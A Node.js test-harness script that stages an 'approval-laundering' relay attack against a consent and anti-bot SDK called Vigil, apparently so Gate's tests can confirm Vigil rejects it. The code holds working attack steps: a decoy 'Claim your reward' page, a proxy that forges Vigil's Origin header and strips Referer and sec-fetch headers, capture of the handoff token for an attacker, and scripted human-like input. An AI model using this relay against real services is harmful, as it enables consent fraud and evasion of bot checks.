// An approval-laundering relay, as an attacker runs one against Gate's consent page: a page on
// the relay's own origin about something else entirely ("claim your reward"), with Vigil's SDK
// served and spoken to through the relay, which forwards the SDK's calls to Vigil with Vigil's own
// origin in `Origin` (a server-side relay sets the headers it likes). A person, in a real
// Chromium with no automation client, uses that page through the X server (xdotool); the relay
// keeps the handoff the page gets, and prints it as one JSON line for the attacker to post with
// the consent form.
//
//   node relay.mjs --api http://127.0.0.1:8080 --key pk_test_… [--ticket gct1.…]
//
// `--key` is the consent page's publishable key and `--ticket` a consent page's ticket, both
// read from the consent page by the attacker, who holds its link. The Gate tests
// (`tests/it/gate_approvals.rs`) run it, and Vigil must refuse the handoff.

import { createServer, request as httpRequest } from 'node:http';

import { randomInt } from 'node:crypto';

import { launchChromium, movePointer, rng, run, sleep, startXvfb } from './desktop.mjs';

function parseArgs(argv) {
  const out = {};
  for (let i = 0; i < argv.length; i += 2) out[argv[i].replace(/^--/, '')] = argv[i + 1];
  return out;
}

function pageHtml(key, ticket) {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Claim your reward</title>
<script src="/sdk/v1/vigil.js"></script></head>
<body style="font: 18px sans-serif; margin: 40px">
<h1>You have won a reward</h1>
<p>Enter your nickname and press the button to claim it.</p>
<p><input id="nick" style="font-size: 20px" autocomplete="off"></p>
<p><button id="claim" style="font-size: 22px; padding: 10px 30px; width: 100%; height: 60vh">Claim</button></p>
<script>
(async () => {
  const report = (body) => fetch('/report', { method: 'POST', body: JSON.stringify(body) });
  try {
    const options = { key: ${JSON.stringify(key)}, endpoint: location.origin };
    ${ticket ? `options.consentTicket = ${JSON.stringify(ticket)};` : ''}
    const agent = await Vigil.load(options);
    // Claimed by a click anywhere: the page is all button, however the window is laid out.
    document.addEventListener('click', async () => {
      const result = await agent.result();
      await report({ ok: true, handoff: result.handoff, session_id: agent.sessionId });
    }, { once: true });
    document.title = 'loaded';
  } catch (e) {
    await report({ ok: false, code: e && e.code, message: String((e && e.message) || e) });
  }
})();
</script></body></html>`;
}

/** Forwards one request to Vigil, claiming Vigil's own origin; resolves when answered. */
function forward(api, req, res) {
  const target = new URL(req.url, api);
  const headers = { ...req.headers, host: target.host, origin: new URL(api).origin };
  delete headers.referer;
  for (const name of Object.keys(headers)) if (name.startsWith('sec-fetch-')) delete headers[name];
  const upstream = httpRequest(target, { method: req.method, headers }, (answer) => {
    res.writeHead(answer.statusCode, answer.headers);
    answer.pipe(res);
  });
  upstream.on('error', () => { res.statusCode = 502; res.end(); });
  req.pipe(upstream);
}

async function main() {
  const args = parseArgs(process.argv.slice(2));
  if (!args.api || !args.key) throw new Error('usage: relay.mjs --api URL --key pk_… [--ticket T]');
  let resolveReport;
  const reported = new Promise((r) => { resolveReport = r; });
  const server = createServer((req, res) => {
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (c) => { body += c; });
      req.on('end', () => { res.end('ok'); resolveReport(JSON.parse(body)); });
      return;
    }
    if (req.url === '/' || req.url.startsWith('/reward')) {
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.end(pageHtml(args.key, args.ticket));
      return;
    }
    if (req.url.startsWith('/sdk/') || req.url.startsWith('/v1/collect/')) {
      forward(args.api, req, res);
      return;
    }
    res.statusCode = 404;
    res.end();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${server.address().port}/reward`;
  const xvfb = await startXvfb();
  const env = { ...process.env, DISPLAY: xvfb.display };
  const browser = launchChromium(['--window-size=1280,900', '--window-position=0,0', url], env);
  const timeout = setTimeout(() => {
    console.error('relay.mjs: no handoff within 60 s');
    process.exit(2);
  }, 60000);
  try {
    // The page loads and the SDK starts; the person reads, types a nickname and claims.
    await sleep(3000);
    // A fresh hand each run: two runs of one test are two visitors, not one recording.
    const random = rng(randomInt(2 ** 32));
    let at = [900, 700];
    at = await movePointer(env, random, at, [300, 260]);
    for (const ch of 'ana') {
      await sleep(120 + random() * 200);
      await run('xdotool', ['key', ch], env);
    }
    at = await movePointer(env, random, at, [640, 600]);
    await sleep(200 + random() * 200);
    await run('xdotool', ['click', '1'], env);
    const report = await reported;
    clearTimeout(timeout);
    console.log(JSON.stringify(report));
    if (!report.ok) process.exitCode = 1;
  } finally {
    try {
      await browser.close();
    } finally {
      xvfb.stop();
      server.close();
    }
  }
}

main().then(() => process.exit(), (e) => {
  console.error(e && e.stack ? e.stack : String(e));
  process.exit(1);
});
